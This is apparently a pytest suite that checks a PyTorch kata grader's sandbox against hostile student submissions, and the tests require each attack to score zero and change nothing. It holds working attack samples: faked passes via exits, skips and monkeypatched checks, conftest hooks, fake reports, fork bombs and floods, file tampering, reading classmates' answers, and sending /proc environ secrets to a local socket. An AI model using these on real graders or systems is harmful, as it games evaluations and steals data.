"""Hostile submissions, graded the way a teacher grades them (`grade --submission` with
every report), and the invariants that must hold for each (see SECURITY.md):

- no unearned points: every hostile kata scores 0, like an honest wrong answer would;
- the honest katas of the same submission are graded correctly;
- the run finishes within its budget and writes every report, valid;
- nothing outside the run's scratch folders changes, and no process outlives the run;
- the submission's output is shown escaped and truncated, never interpreted.

Every kata asks for `scale(x) -> 2 * x`. The hostile ones attack and then answer wrongly
(or not at all). They know the paths a real attacker would have to guess: the repository,
the reports, the other students' submissions, a local port listening for loot.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import sys
import sysconfig
import threading
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

import grader
from grader.sandbox import confine

SOLUTION = '''"""Scale a tensor."""


def scale(x):
    # BEGIN SOLUTION
    return x * 2
    # END SOLUTION
'''

TEST = '''import torch
from grader.checks import check_tensor


def test_scales_a_float_tensor(kata, ref):
    x = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    check_tensor(kata.scale(x), ref.scale(x), "scale(x)")
'''

SECRET = "kata-secret-3141592653"
MARK = "katahostile"  # the process name every hostile kata gives itself (and its children)
HEADER = f"""import ctypes, os, sys, time
ctypes.CDLL(None).prctl(15, b"{MARK}", 0, 0, 0)  # PR_SET_NAME: how the test finds leftovers
"""
WRONG = "\ndef scale(x):\n    return x * 3\n"

HOSTILE = {
    # 1. exits, at import and inside the kata
    "ex01_sys_exit_at_import": "sys.exit(0)" + WRONG,
    "ex02_os_exit_at_import": "os._exit(0)" + WRONG,
    "ex03_pytest_exit_at_import": "import pytest\npytest.exit('all done', returncode=0)" + WRONG,
    "ex04_sys_exit_in_kata": "def scale(x):\n    sys.exit(0)\n",
    "ex05_os_exit_in_kata": "def scale(x):\n    os._exit(0)\n",
    "ex06_pytest_exit_in_kata": "import pytest\ndef scale(x):\n    pytest.exit('done', returncode=0)\n",
    # 2. skipping its own test
    "ex07_unittest_skip": "import unittest\ndef scale(x):\n    raise unittest.SkipTest('not today')\n",
    "ex08_pytest_skip": "import pytest\ndef scale(x):\n    pytest.skip('not today')\n",
    "ex09_pytest_xfail": "import pytest\ndef scale(x):\n    pytest.xfail('expected to fail')\n",
    # 3. monkeypatching what a verdict might use
    "ex10_patches_torch_and_builtins": """import builtins, torch, torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
""" + WRONG,
    "ex11_patches_pytest_through_gc": """import gc
import grader.checks
for name, module in list(sys.modules.items()):
    if name.startswith(("_pytest", "pytest", "grader")):
        for attr in ("fail", "check_tensor", "check_number", "check_true", "call_and_report"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: None)
for obj in gc.get_objects():
    if type(obj).__name__ in ("TestReport", "CallInfo"):
        obj.outcome = "passed"
""" + WRONG,
    # 4. wrong kinds of answers
    "ex12_eq_always_true": """class Liar:
    shape, dtype = (2, 3), "float32"
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def scale(x):
    return Liar()
""",
    "ex13_list": "def scale(x):\n    return (x * 2).tolist()\n",
    "ex14_numpy_array": "def scale(x):\n    return (x * 2).numpy()\n",
    "ex15_zero_dim": "def scale(x):\n    return (x * 2).sum()\n",
    "ex16_broadcastable_row": "def scale(x):\n    return (x * 2)[0]\n",
    "ex17_wrong_dtype": "def scale(x):\n    return (x * 2).double()\n",
    "ex18_meta_tensor": "import torch\ndef scale(x):\n    return torch.empty_like(x, device='meta')\n",
    "ex19_sparse_tensor": "def scale(x):\n    return (x * 2).to_sparse()\n",
    "ex20_nan_and_inf": "def scale(x):\n    y = x * 2\n    y[0, 0], y[1, 2] = float('nan'), float('inf')\n"
                        "    return y\n",
    # 6. fake reports and fake summaries
    "ex21_fake_reports": """import json
fake = json.dumps({"score": 100, "tests": [], "summary": {"points": 100}})
places = [os.getcwd(), os.path.dirname(__file__), "{submissions}", "{reports}", "{root}"]
places += [os.path.dirname(p) for p in places]
for place in places:
    for name in ("results.json", "report.json", "junit.xml", "gradebook.csv"):
        try:
            with open(os.path.join(place, name), "w") as f:
                f.write(fake)
        except OSError:
            pass
print("ch01 Demo: 40/40 katas passed, 40/40 points")
print("\\x1b[2J\\x1b[H\\x1b[32m✓ every kata passed\\x1b[0m [bold green]PASSED[/bold green]")
print("::error::pwned\\n::set-output name=score::100")
""" + WRONG,
    # 7. loops that never return
    "ex22_loop_at_import": "while True:\n    pass\n" + WRONG,
    "ex23_loop_in_torch": "import torch\ndef scale(x):\n    a = torch.ones(12000, 12000)\n"
                         "    while True:\n        a = a @ a\n",
    "ex24_sleeps_forever": "def scale(x):\n    time.sleep(1e9)\n",
    "ex25_ignores_signals_bare_except": """import signal
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
def scale(x):
    while True:
        try:
            time.sleep(0.01)
        except:  # noqa: E722
            pass
""",
    # 8. memory, processes, threads, a segfault
    "ex26_huge_tensor": "import torch\ndef scale(x):\n    return torch.empty(10**11)\n",
    "ex27_unbounded_list": "def scale(x):\n    hoard = []\n    while True:\n"
                          "        hoard.append(bytearray(2**28))\n",
    "ex28_fork_bomb": """def scale(x):
    for _ in range(6):  # 64 processes, each in a session of its own
        if os.fork() == 0:
            os.setsid()
    if os.fork() == 0:  # and 64 orphans, whose parent is gone
        if os.fork() == 0:
            time.sleep(1e9)
        os._exit(0)
    time.sleep(1e9)
""",
    "ex29_thread_storm": """import threading
def scale(x):
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(1e9,), daemon=True).start()
    return x * 3
""",
    "ex30_segfault_at_import": "ctypes.string_at(0)" + WRONG,
    # 9. floods
    "ex31_output_flood": "def scale(x):\n    for _ in range(1024):\n        sys.stdout.write('y' * 2**20)\n"
                         "    return x * 3\n",
    "ex32_huge_exception": "def scale(x):\n    raise ValueError('z' * 10**8)\n",
    "ex33_gigantic_tensor": "import torch\ndef scale(x):\n    return torch.zeros(80_000_000)\n",
    # 10. tampering, and reading what it must not
    "ex34_tampers_with_files": """import glob, sysconfig
root = "{root}"
targets = glob.glob(root + "/**/*", recursive=True) + [
    root + "/tests/ch01_demo/test_ex98_honest_right.py", root + "/solutions/ch01_demo/ex98_honest_right.py",
    root + "/exercises/ch01_demo/chapter.toml", root + "/.grade/progress.db", "{other_report}"]
for path in targets:
    try:
        os.remove(path)
    except OSError:
        pass
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError:
        pass
for folder in ("{grader}", sysconfig.get_paths()["purelib"], os.path.expanduser("~"), "{home}", "/tmp", "{reports}"):
    try:
        with open(os.path.join(folder, "{token}"), "w") as f:
            f.write("pwned")
    except OSError:
        pass
""" + WRONG,
    "ex35_reads_the_answer": """import glob
def scale(x):
    for path in ["{root}/solutions/ch01_demo/ex35_reads_the_answer.py",
                 "{submissions}/bob/ch01_demo/ex35_reads_the_answer.py",
                 *glob.glob("/tmp/kata-*/**/ex35_reads_the_answer.py", recursive=True),
                 *glob.glob("/tmp/**/ex35_reads_the_answer.py", recursive=True)]:
        try:
            source = open(path).read()
        except OSError:
            continue
        if "x * 2" in source:
            return x * 2
    try:
        print(open("{root}/tests/ch01_demo/test_h35_reads_the_answer.py").read())
    except OSError as e:
        print("tests unreadable:", e)
    return x * 3
""",
    # 11. secrets and the network
    "ex36_exfiltrates": """import glob, socket
def scale(x):
    loot = [repr(dict(os.environ))]
    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ")]:
        try:
            loot.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    loot = "\\n".join(text for text in loot if "KATA_TEST_SECRET" in text) or "nothing found"
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(2)
            s.connect(("127.0.0.1", {port}))
            s.sendall(loot.encode())
            s.close()
        except OSError as e:
            print("network:", e)
    print(loot[:3000])
    raise ValueError(loot[:3000])
""",
    "ex37_syntax_error": "def scale(x)\n    return x * 2\n",
}
HONEST = {"ex98_honest_right": "def scale(x):\n    return x * 2\n",
          "ex99_honest_wrong": "def scale(x):\n    return x + 2\n"}
CONFIG_FILES = {  # 5. files that would take over pytest or Python if they were used
    "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                   "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
    "pytest.ini": "[pytest]\naddopts = -p no:grader.plugin --co\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
    "setup.cfg": "[tool:pytest]\naddopts = --co\n",
    "sitecustomize.py": "import builtins\nbuiltins.isinstance = lambda *a: True\n",
}
BUDGET = 240  # seconds for the whole hostile run


def _state_and_parent(pid: int | str) -> tuple[str, str]:
    """A process's state letter and parent pid, from /proc/PID/stat."""
    state, ppid = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[:2]
    return state, ppid


def _processes_named(name: str) -> list[int]:
    """Live processes called `name` (a zombie is dead, only not yet reaped)."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and Path(f"/proc/{entry}/comm").read_text().strip() == name:
                if _state_and_parent(entry)[0] not in ("Z", "X"):
                    found.append(int(entry))
        except (OSError, ValueError):
            pass
    return found


def _survivors(name: str, grace: float = 5.0) -> list[str]:
    """Processes called `name` still alive after `grace` seconds, as "PID STATE PPID: COMMAND":
    the grader SIGKILLs them before it exits, but on a loaded machine the kernel may take a
    moment to tear down a few hundred torch-sized processes."""
    deadline = time.monotonic() + grace
    while (found := _processes_named(name)) and time.monotonic() < deadline:
        time.sleep(0.1)
    described = []
    for pid in found:
        try:
            state, ppid = _state_and_parent(pid)
            command = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            described.append(f"{pid} {state} {ppid}: {command[:200]}")
        except (OSError, ValueError):
            pass
    return described


class _Listener:
    """A TCP and a UDP socket on localhost that record whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.connections = 0
        self.received = b""
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.tcp.accept()
                self.connections += 1
                self.received += conn.recv(65536)
                conn.close()
            except OSError:
                pass
            try:
                self.received += self.udp.recv(65536)
            except OSError:
                pass

    def close(self) -> None:
        self.stop = True
        self.thread.join(2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, kata_repo, grade_cli, folder_snapshot):
    """The hostile submission (alice's, next to an honest classmate's), graded once."""
    if not sys.platform.startswith("linux"):
        pytest.skip("the hostile suite needs Linux (/proc, prctl)")
    base = tmp_path_factory.mktemp("hostile")
    ids = [*HOSTILE, *HONEST]
    root = kata_repo(base / "repo", {k: "def scale(x):\n    raise NotImplementedError\n" for k in ids},
                     SOLUTION, TEST, {k: 2 for k in ids})
    from grader.store import Store

    store = Store(root / ".grade" / "progress.db")  # a learner's progress, which must stay as it is
    store.close()
    submissions, reports = base / "submissions", base / "reports"
    other_report = base / "other-run" / "report.json"
    other_report.parent.mkdir()
    other_report.write_text('{"from": "an earlier run"}')
    reports.mkdir()
    temp = base / "temp"  # the run's temporary folder: the submissions lie outside it
    temp.mkdir()
    token = f"kata-was-here-{os.getpid()}"
    listener = _Listener()
    fields = {"root": str(root), "reports": str(reports), "submissions": str(submissions),
              "grader": str(Path(grader.__file__).parent), "home": str(Path.home()), "token": token,
              "port": listener.port, "other_report": str(other_report)}
    alice = submissions / "alice" / "ch01_demo"
    alice.mkdir(parents=True)
    for kid, body in HONEST.items():
        (alice / f"{kid}.py").write_text(body)
    for kid, body in HOSTILE.items():
        (alice / f"{kid}.py").write_text(HEADER + _fill(body, fields))
    for name, text in CONFIG_FILES.items():
        (submissions / "alice" / name).write_text(text)
        (alice / name).write_text(text)
    bob = submissions / "bob" / "ch01_demo"  # the honest classmate, whose answer alice wants
    bob.mkdir(parents=True)
    (bob / "ex35_reads_the_answer.py").write_text("def scale(x):\n    return x * 2\n")

    guarded = [root, other_report.parent, submissions]
    before = folder_snapshot(*guarded)
    start = time.monotonic()
    proc = grade_cli(root, "ch01", "--submission", str(submissions / "alice"),
                     "--json", str(reports / "report.json"), "--junit", str(reports / "junit.xml"),
                     "--gradescope", str(reports / "results.json"), "--timeout", "3",
                     timeout=BUDGET + 60, env={"KATA_TEST_SECRET": SECRET, "TORCHKATA_MEMORY_LIMIT_MB": "2048",
                                                 "TMPDIR": str(temp)})
    elapsed = time.monotonic() - start
    leftovers = _survivors(MARK)
    listener.close()
    folders = (fields["grader"], sysconfig.get_paths()["purelib"], Path.home(), "/tmp", reports)
    planted = [Path(p) / token for p in folders]
    found = [str(p) for p in planted if p.exists()]
    for p in planted:  # never leave anything behind, even when the test fails
        p.unlink(missing_ok=True)
    for pid in (int(line.split()[0]) for line in leftovers):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    assert (reports / "report.json").exists(), proc.stdout[-3000:] + proc.stderr[-3000:]
    report = json.loads((reports / "report.json").read_text())
    return {"proc": proc, "elapsed": elapsed, "report": report, "reports": reports, "before": before,
            "after": folder_snapshot(*guarded), "leftovers": leftovers, "planted": found, "listener": listener,
            "by_id": {k["full_key"].split(".")[1]: k for k in report["katas"]}, "fields": fields,
            "root": root, "submissions": submissions, "base": base, "temp": temp}


def _fill(body: str, fields: dict) -> str:
    """Put the paths into a hostile source (only the {name} fields; other braces stay)."""
    for key, value in fields.items():
        body = body.replace("{" + key + "}", str(value))
    return body


needs_landlock = pytest.mark.skipif(confine.landlock_abi() == 0,
                                    reason="this kernel has no Landlock: see SECURITY.md, 'Without Landlock'")


# -- the invariants ------------------------------------------------------------------------
def test_no_hostile_kata_scores_and_the_honest_ones_are_graded_right(hostile_run):
    by_id = hostile_run["by_id"]
    assert by_id["ex98_honest_right"]["status"] == "passed"
    assert by_id["ex99_honest_wrong"]["status"] == "failing"
    assert "scale(x)" in by_id["ex99_honest_wrong"]["message"]
    scored = {kid: k["status"] for kid, k in by_id.items() if kid in HOSTILE and k["status"] != "failing"}
    assert scored == {}, hostile_run["proc"].stdout[-3000:]
    assert hostile_run["report"]["summary"]["points"] == 1


def test_the_run_keeps_its_budget_and_writes_every_report_valid(hostile_run):
    assert hostile_run["proc"].returncode == 1, hostile_run["proc"].stderr[-2000:]
    assert hostile_run["elapsed"] < BUDGET
    reports = hostile_run["reports"]
    assert hostile_run["report"]["schema"] == "torchkata.report/1"
    assert len(hostile_run["report"]["katas"]) == len(HONEST) + len(HOSTILE)
    suites = ET.parse(reports / "junit.xml").getroot()
    cases = suites.findall(".//testcase")
    assert len(cases) == len(HONEST) + len(HOSTILE)
    assert sum(1 for c in cases if c.find("failure") is None and c.find("skipped") is None) == 1
    gradescope = json.loads((reports / "results.json").read_text())
    assert gradescope["score"] == 1
    assert sorted(p.name for p in reports.iterdir()) == ["junit.xml", "report.json", "results.json"]


def test_nothing_outside_the_scratch_folders_changes(hostile_run):
    assert hostile_run["after"] == hostile_run["before"]
    assert hostile_run["planted"] == []


def test_no_process_started_by_a_worker_outlives_the_run(hostile_run):
    assert hostile_run["leftovers"] == []


def test_output_is_escaped_and_truncated_never_interpreted(hostile_run):
    out = hostile_run["proc"].stdout
    assert "\x1b" not in out  # --no-color: any escape sequence would be the submission's
    assert "[bold green]PASSED[/bold green]" in out  # shown as text, not as markup
    assert not any(line.startswith("::") for line in out.splitlines())
    assert len(out) < 400_000
    flood = hostile_run["by_id"]["ex31_output_flood"]
    assert len(flood["output"]) < 10_000 and "truncated" in flood["output"]
    assert len(hostile_run["by_id"]["ex32_huge_exception"]["message"]) < 5000


# -- how each attack ended -----------------------------------------------------------------
@pytest.mark.parametrize("kid, words", [
    ("ex01_sys_exit_at_import", "SystemExit"),
    ("ex02_os_exit_at_import", "exited with code 0"),
    ("ex03_pytest_exit_at_import", "skipped by submission"),
    ("ex04_sys_exit_in_kata", "SystemExit"),
    ("ex05_os_exit_in_kata", "exited with code 0"),
    ("ex06_pytest_exit_in_kata", "skipped by submission"),
    ("ex07_unittest_skip", "skipped by submission"),
    ("ex08_pytest_skip", "skipped by submission"),
    ("ex09_pytest_xfail", "skipped by submission"),
    ("ex12_eq_always_true", "must return a tensor"),
    ("ex13_list", "must return a tensor"),
    ("ex14_numpy_array", "must return a tensor"),
    ("ex15_zero_dim", "shape"),
    ("ex16_broadcastable_row", "shape"),
    ("ex17_wrong_dtype", "dtype"),
    ("ex18_meta_tensor", "meta"),
    ("ex19_sparse_tensor", "sparse"),
    ("ex20_nan_and_inf", "nan"),
    ("ex22_loop_at_import", "did not return within 3 s"),
    ("ex23_loop_in_torch", "did not return within 3 s"),
    ("ex24_sleeps_forever", "did not return within 3 s"),
    ("ex25_ignores_signals_bare_except", "did not return within 3 s"),
    ("ex26_huge_tensor", "RuntimeError"),
    ("ex27_unbounded_list", "MemoryError"),
    ("ex28_fork_bomb", "did not return within 3 s"),
    ("ex30_segfault_at_import", "SIGSEGV"),
    ("ex31_output_flood", "File too large"),
    ("ex33_gigantic_tensor", "could not be sent back"),
    ("ex37_syntax_error", "ex37_syntax_error.py:3"),
])
def test_each_attack_fails_its_kata_with_a_clear_reason(hostile_run, kid, words):
    kata = hostile_run["by_id"][kid]
    assert kata["status"] == "failing"
    assert words.lower() in kata["message"].lower(), kata["message"][:1000]


def test_config_files_in_the_submission_are_ignored_and_listed(hostile_run):
    out = hostile_run["proc"].stdout
    for name in CONFIG_FILES:
        assert name in out
    assert "conftest.py" in out.split("ignored from the submission")[1].splitlines()[0]


@needs_landlock
def test_the_submission_cannot_read_the_solutions_tests_or_classmates(hostile_run):
    kata = hostile_run["by_id"]["ex35_reads_the_answer"]
    assert kata["status"] == "failing"
    assert "tests unreadable" in kata["output"]


@needs_landlock
def test_secrets_stay_out_of_reach_and_the_network_is_closed(hostile_run):
    kata = hostile_run["by_id"]["ex36_exfiltrates"]
    listener = hostile_run["listener"]
    assert "nothing found" in kata["message"]
    assert (listener.connections, listener.received) == (0, b"")  # neither TCP nor UDP got through
    assert kata["output"].count("network: [Errno 13] Permission denied") == 2
    everything = hostile_run["proc"].stdout + hostile_run["proc"].stderr
    everything += "".join(p.read_text() for p in hostile_run["reports"].iterdir())
    assert SECRET not in everything


def test_a_kernel_without_landlock_is_reported_not_fatal(monkeypatch):
    from grader.sandbox import client

    monkeypatch.setattr(confine, "landlock_abi", lambda: 0)
    assert client.unconfined_reason() == "this kernel has no Landlock (Linux 5.13 or newer has it)"


def test_read_rules_hide_protected_folders_but_not_what_is_allowed_inside(tmp_path):
    (tmp_path / "repo" / "solutions").mkdir(parents=True)
    (tmp_path / "repo" / ".venv").mkdir()
    (tmp_path / "other").mkdir()
    rules = confine.read_rules([str(tmp_path / "repo")], [str(tmp_path / "repo" / ".venv"), str(tmp_path / "repo")])
    assert str(tmp_path / "repo" / ".venv") in rules
    assert str(tmp_path / "other") in rules
    assert not any(r == str(tmp_path / "repo") or r.startswith(str(tmp_path / "repo" / "solutions")) for r in rules)
    assert "/" not in rules


def test_read_rules_leave_out_links_to_protected_folders(tmp_path):
    (tmp_path / "repo" / "tests").mkdir(parents=True)
    (tmp_path / "alias").symlink_to(tmp_path / "repo")
    (tmp_path / "into").symlink_to(tmp_path / "repo" / "tests")
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib-link").symlink_to(tmp_path / "lib")
    rules = confine.read_rules([str(tmp_path / "repo")], [])
    assert str(tmp_path / "alias") not in rules and str(tmp_path / "into") not in rules
    assert str(tmp_path / "lib-link") in rules


def test_the_worker_environment_is_an_allow_list():
    env = confine.worker_env({"PATH": "/bin", "GITHUB_TOKEN": "x", "AWS_SECRET_ACCESS_KEY": "y", "LC_ALL": "C"}, "/s")
    assert env == {"PATH": "/bin", "LC_ALL": "C", "HOME": "/s", "TMPDIR": "/s"}


def test_teacher_mode_warns_when_submissions_run_unconfined(demo_repo, grade_cli, tmp_path):
    submission = tmp_path / "alice" / "ch01_demo"
    submission.mkdir(parents=True)
    (submission / "ex01_passes.py").write_text("def add(a, b):\n    return a + b\n")
    args = ("ch01.ex01", "--submission", str(tmp_path / "alice"))
    unconfined = grade_cli(demo_repo, *args, env={"TORCHKATA_NO_CONFINE": "1"})
    assert unconfined.returncode == 0, unconfined.stderr
    assert "runs unconfined: TORCHKATA_NO_CONFINE is set; see SECURITY.md" in unconfined.stderr
    if confine.landlock_abi():
        assert "unconfined" not in grade_cli(demo_repo, *args).stderr


def test_batch_mode_keeps_classmates_and_the_gradebook_out_of_reach(hostile_run, grade_cli, folder_snapshot):
    """`grade batch` runs its own judges: alice cannot copy bob's answer nor fake the gradebook."""
    subs, out = hostile_run["submissions"], hostile_run["base"] / "batch"
    before = folder_snapshot(subs)
    proc = grade_cli(hostile_run["root"], "batch", str(subs / "alice"), str(subs / "bob"), "--out", str(out),
                     "--targets", "ch01.ex21", "ch01.ex35", "ch01.ex98", timeout=BUDGET,
                     env={"TMPDIR": str(hostile_run["temp"])})
    assert proc.returncode == 0, proc.stderr[-2000:]
    rows = {r["student"]: r for r in csv.DictReader((out / "gradebook.csv").open())}
    assert [rows["alice"]["total"], rows["bob"]["total"]] == ["1", "1"]  # alice: her honest kata only
    assert rows["alice"]["ch01.ex35"] == "0" and rows["bob"]["ch01.ex35"] == "1"
    assert folder_snapshot(subs) == before
    assert json.loads((out / "students" / "bob.json").read_text())["summary"]["points"] == 1



def test_the_process_limit_counts_threads_too():
    """RLIMIT_NPROC counts every thread of the user: so must the headroom given to a worker."""
    if not os.path.isdir("/proc"):
        pytest.skip("needs /proc")
    started = threading.Event()
    threads = [threading.Thread(target=started.wait) for _ in range(5)]
    for thread in threads:
        thread.start()
    try:
        assert confine._user_tasks() >= threading.active_count()
    finally:
        started.set()


def test_the_network_filter_knows_this_machine_or_says_so():
    """block_network() either installs (in a child, which it changes for good) or says no."""
    import platform

    pid = os.fork()
    if pid == 0:  # the child: try it, report through the exit code
        try:
            installed = confine.block_network()
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
            os._exit(3 if installed else 4)
        except PermissionError:
            os._exit(0)
        except BaseException:  # noqa: BLE001
            os._exit(5)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    assert code == (0 if platform.machine() in ("x86_64", "aarch64") else 4)

